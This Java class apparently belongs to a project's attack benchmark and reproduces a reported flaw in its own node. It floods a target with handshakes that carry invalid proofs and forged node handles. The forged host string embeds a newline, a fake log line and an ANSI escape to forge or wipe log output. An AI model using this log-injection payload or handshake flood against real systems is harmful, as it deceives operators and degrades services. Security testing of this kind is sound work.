package org.vigne.bench.attack;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.ByteBufUtil;
import java.io.DataInputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.security.SecureRandom;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;
import org.vigne.core.Id;
import org.vigne.core.NodeHandle;
import org.vigne.net.node.HostPort;
import org.vigne.net.wire.Frames;
import org.vigne.net.wire.HandleBytes;

/**
 * The attack of finding 2 of issue 7: handshakes with a wrong proof, each claiming another
 * node's handle, whose host carries a newline and an ANSI escape (to forge or repaint log
 * lines), as fast as {@code threads} threads can make them.
 */
final class BadHandshakes {
    private static final String FORGED_HOST = "10.9.8.7\n00:00:00.000 INFO  membership: forged joined the ring\u001b[2J";

    private final HostPort target;
    private final String source;
    private final AtomicInteger next = new AtomicInteger();
    private final AtomicLong refused = new AtomicLong();
    private final AtomicLong failed = new AtomicLong();

    BadHandshakes(HostPort target, String source) {
        this.target = target;
        this.source = source;
    }

    /** Makes {@code total} bad handshakes on {@code threads} threads; returns when all are done. */
    void run(int total, int threads) throws InterruptedException {
        List<Thread> ts = new ArrayList<>();
        for (int i = 0; i < threads; i++) {
            Thread t = new Thread(() -> {
                for (int n = next.getAndIncrement(); n < total; n = next.getAndIncrement()) {
                    attempt(n);
                }
            }, "bad-handshakes-" + i);
            ts.add(t);
            t.start();
        }
        for (Thread t : ts) {
            t.join();
        }
    }

    private void attempt(int n) {
        SecureRandom random = new SecureRandom();
        try (Socket s = new Socket()) {
            s.bind(new InetSocketAddress(source, 0));
            s.connect(new InetSocketAddress(target.host(), target.port()), 2000);
            s.setSoTimeout(5000);
            DataInputStream in = new DataInputStream(s.getInputStream());
            in.readFully(new byte[in.readInt()]);
            byte[] nonce = new byte[Frames.NONCE_BYTES];
            byte[] proof = new byte[Frames.PROOF_BYTES];
            random.nextBytes(nonce);
            random.nextBytes(proof);
            byte[] handle = HandleBytes.encode(new NodeHandle(Id.sha1("victim " + n), FORGED_HOST, 7000 + n % 1000));
            ByteBuf auth = Frames.handshake(Frames.Kind.CLIENT_AUTH, nonce, proof, handle);
            try {
                s.getOutputStream().write(ByteBufUtil.getBytes(auth));
            } finally {
                auth.release();
            }
            if (in.read() < 0) {
                refused.incrementAndGet();
            }
        } catch (IOException e) {
            failed.incrementAndGet();
        }
    }

    Map<String, Object> figures() {
        Map<String, Object> m = new LinkedHashMap<>();
        m.put("refusedByNode", refused.get());
        m.put("failedOrReset", failed.get());
        return m;
    }
}
